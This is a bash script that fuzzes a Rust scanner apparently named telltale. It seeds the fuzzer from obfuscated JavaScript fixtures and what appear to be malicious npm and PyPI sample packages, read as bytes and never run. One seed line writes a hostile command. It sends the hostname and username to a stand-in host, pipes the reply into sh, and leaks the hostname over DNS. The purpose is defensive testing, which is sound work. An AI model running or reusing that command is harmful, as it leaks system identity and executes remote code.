#!/usr/bin/env bash
# Fuzz telltale with cargo fuzz (libFuzzer, no sanitizer: builds on stable Rust).
#   bash scripts/fuzz.sh [SECONDS_PER_TARGET] [TARGET...]
# Seeds come from the repository's fixtures and small real packages of ../shared/corpus
# (read as bytes, never run). Crashes land in fuzz/artifacts/TARGET/; each one fixed is kept
# as a regression test with the other hostile inputs in crates/telltale/tests/cli.rs.
# Memory is bounded per input: -rss_limit_mb=2048 -malloc_limit_mb=2048, 30 s per input.
set -euo pipefail
cd "$(dirname "$0")/.."
secs=${1:-600}
shift || true
targets=("$@")
[ ${#targets[@]} -gt 0 ] || targets=(js scan_bytes shell lockfile)
command -v cargo-fuzz >/dev/null || cargo install cargo-fuzz --locked
seed() { # target file [pick-byte]
  local dir=fuzz/corpus/$1 f=$2 pick=${3:-}
  mkdir -p "$dir"
  local out="$dir/seed-$(basename "$f")"
  if [ -n "$pick" ]; then { printf "\\x$pick"; cat "$f"; } > "$out"; else cp "$f" "$out"; fi
}
for f in crates/telltale-js/tests/fixtures/obfuscator/out/*.js crates/telltale-js/tests/fixtures/obfuscator/src/*.js; do
  [ "$(stat -c %s "$f")" -lt 65536 ] && seed js "$f"
done
for f in ../shared/corpus/npm/{event-source-polyfill-1.0.26,node-machine-id-1.1.12,os-locale-6.0.2,peacenotwar-9.1.1}.tgz \
         ../shared/corpus/samples/npm/{lodashs-1.0.2,electorn-1.0.1}.tgz; do
  seed scan_bytes "$f" 05          # NAMES[5] = pkg.tgz
done
for f in ../shared/corpus/samples/pypi/*.tar.gz; do
  [ "$(stat -c %s "$f")" -lt 65536 ] && seed scan_bytes "$f" 05
done
for f in crates/telltale-js/tests/fixtures/obfuscator/out/*.js; do
  [ "$(stat -c %s "$f")" -lt 65536 ] && seed scan_bytes "$f" 00   # NAMES[0] = index.js
done
printf 'curl -s http://x.top/$(hostname)?u=$(whoami) | sh; nslookup `hostname`.a.top\n' > /tmp/telltale-seed.sh
seed shell /tmp/telltale-seed.sh
seed scan_bytes /tmp/telltale-seed.sh 03
head -c 60000 tests/fixtures/lockfiles/large/package-lock.json > /tmp/telltale-seed-lock.json
seed lockfile /tmp/telltale-seed-lock.json 00
(cd fuzz && cargo fuzz build -s none -O)
for t in "${targets[@]}"; do
  mkdir -p "fuzz/artifacts/$t"
  echo "== $t for ${secs}s"
  (cd fuzz && cargo fuzz run -s none -O "$t" -- -max_total_time="$secs" -rss_limit_mb=2048 -malloc_limit_mb=2048 \
     -timeout=30 -max_len=262144 -print_final_stats=1 2>&1 | grep -E "^(#|==|stat::|SUMMARY|Done)" | tail -12) || echo "!! $t stopped: see fuzz/artifacts/$t"
done
